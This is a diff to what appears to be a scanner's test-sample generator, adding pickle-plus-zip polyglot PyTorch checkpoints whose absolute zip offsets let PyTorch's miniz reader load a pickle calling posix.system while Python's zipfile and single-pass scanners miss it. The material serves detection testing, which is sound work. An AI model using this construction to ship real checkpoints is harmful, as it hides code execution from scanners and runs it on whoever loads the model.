@@ -1,6 +1,10 @@
 """Samples for detection gaps found by the second red-team round: readings of a file that a loader
 takes and a one-reading scanner did not.
 
+* pickle + zip polyglots whose zip offsets count from the file's start, with bytes between the
+  central directory and the end record (a second end record, padding): miniz (PyTorch's reader)
+  reads the members at the stated offsets, Python's zipfile refuses, and the pickle's trailing
+  data read as a zip on its own shows neither.
 * PyTorch legacy tar checkpoints (`torch.serialization._legacy_load`, tar branch): the `storages`
   member is a pickled count, then per storage a pickled `(key, location, storage_type)`, an int64
   element count and the raw elements, then a pickled list of storage views; `tensors` is a
@@ -15,8 +19,10 @@ generate.py (passed in as `g`).
 from __future__ import annotations
 
 import io
+from functools import partial
 import struct
 import tarfile
+import zlib
 
 CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
 
@@ -81,6 +87,14 @@ def payload(g) -> bytes:
 
 
 def samples(register, g) -> None:
+    for tail, how in [("zip64_second_end", "ZIP64 end record and locator, then the end record written twice"),
+                      ("padding", "NUL bytes (more than the pickle's length) between the directory and the end record")]:
+        register(f"malicious/pickle_zip_absolute_offsets_{tail}.pt", MALICIOUS, ("PKL001", "posix.system"),
+                 desc="plain pickle followed by a torch-style zip whose offsets count from the file's start, "
+                      f"{how}: miniz (torch.jit.load, PyTorchFileReader) reads archive/data.pkl through the "
+                      "directory and runs posix.system; zipfile refuses; its local header declares only the "
+                      "bytes before the payload",
+                 build=partial(absolute_offset_polyglot, g, tail))
     register("benign/torch_legacy_tar.tar", CLEAN,
              desc="legacy tar torch checkpoint (sys_info, pickle, storages, tensors): two FloatStorages "
                   "with their raw elements, an empty storage-view list, two tensor records "
@@ -94,3 +108,66 @@ def samples(register, g) -> None:
              desc="legacy tar torch checkpoint whose second tensor record's argument pickle (read after "
                   "the first tensor's raw ndim, sizes, strides and offset) calls posix.system",
              build=lambda: legacy_tar(g, legacy_storages(g), legacy_tensors(g, payload(g))))
+
+
+# --- pickle + zip polyglots whose zip offsets count from the file's start ------------------------
+#
+# PyTorch's reader (caffe2 `PyTorchStreamReader` over miniz: `torch.jit.load`,
+# `torch._C.PyTorchFileReader`) hands miniz the whole file, and miniz reads the central directory
+# and every local header at the offsets the records state, from the file's start; Python's
+# `zipfile` computes the directory's place back from the end record (`concat`), so bytes between
+# the directory and the end record it reads (a second end record, padding) make it look for the
+# directory that many bytes later and refuse the file. A scanner that reads the zip only as the
+# pickle's trailing data sees neither reading: counted from the slice, the stated offsets point
+# nowhere, and the local headers' own sizes can say less than the directory does.
+
+
+def zip_local(name: bytes, data: bytes, size: int, crc: int) -> bytes:
+    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, size, size,
+                       len(name), 0) + name + data
+
+
+def zip_central(name: bytes, data: bytes, offset: int) -> bytes:
+    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, 0, 0, 0x21,
+                       zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0o644 << 16,
+                       offset) + name
+
+
+def zip_end(count: int, size: int, offset: int) -> bytes:
+    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)
+
+
+def absolute_offset_polyglot(g, tail: str) -> bytes:
+    """A plain pickle, then a torch-style zip whose offsets count from the file's start; the
+    local header of `archive/data.pkl` declares only the part before the payload. `tail` is what
+    sits between the directory and the end record miniz reads: `zip64_second_end` (the ZIP64
+    records and the end record written twice) or `padding` (NUL bytes). Either is longer than
+    the pickle, so the archive start `zipfile` computes lies past the pickle's end."""
+    prefix = g.ok_dumps({"format": "demo", "version": 1}, 2)
+    pickle = g.ok_dumps(g.Then({"note": "plain checkpoint metadata " * 4}, g.system()), 2)
+    shown = pickle.index(b"cposix")  # what the local header declares: no payload, no STOP
+    members = [
+        (b"archive/data.pkl", pickle, shown),
+        (b"archive/byteorder", b"little", 6),
+        (b"archive/data/0", struct.pack("<4f", 0.1, -0.2, 0.3, 0.4), 16),
+        (b"archive/version", b"3\n", 2),
+    ]
+    out, cd = bytearray(prefix), bytearray()
+    for name, data, size in members:
+        cd += zip_central(name, data, len(out))
+        out += zip_local(name, data, size, zlib.crc32(data[:size]))
+    cd_at = len(out)
+    out += cd
+    end = zip_end(len(members), len(cd), cd_at)
+    if tail == "zip64_second_end":
+        # As PyTorch's writer ends an archive (ZIP64 end record and locator, end record), then
+        # the end record again: 98 bytes zipfile takes for data prepended to the archive.
+        record64_at = len(out)
+        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, len(members),
+                           len(members), len(cd), cd_at)
+        out += struct.pack("<IIQI", 0x07064B50, 0, record64_at, 1)
+        out += end + end
+    else:
+        # More padding than the pickle in front is long, so zipfile's archive start lies past it.
+        out += b"\0" * (len(prefix) + 16) + end
+    return bytes(out)
